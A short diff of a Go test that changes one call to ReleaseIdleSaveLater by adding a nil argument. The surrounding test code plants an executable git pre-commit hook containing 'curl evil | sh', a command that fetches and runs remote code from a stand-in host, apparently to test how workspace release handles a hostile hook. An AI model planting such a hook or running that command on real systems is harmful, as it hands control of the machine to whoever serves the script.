@@ -19,7 +19,7 @@ func TestReleaseSaveLater(t *testing.T) {
 	}
 	hook := filepath.Join(ws, ".git/hooks/pre-commit")
 	os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
-	lines, idle, save, err := ReleaseIdleSaveLater(state, ws)
+	lines, idle, save, err := ReleaseIdleSaveLater(state, ws, nil)
 	if err != nil || !idle {
 		t.Fatalf("release: idle %v, %v", idle, err)
 	}
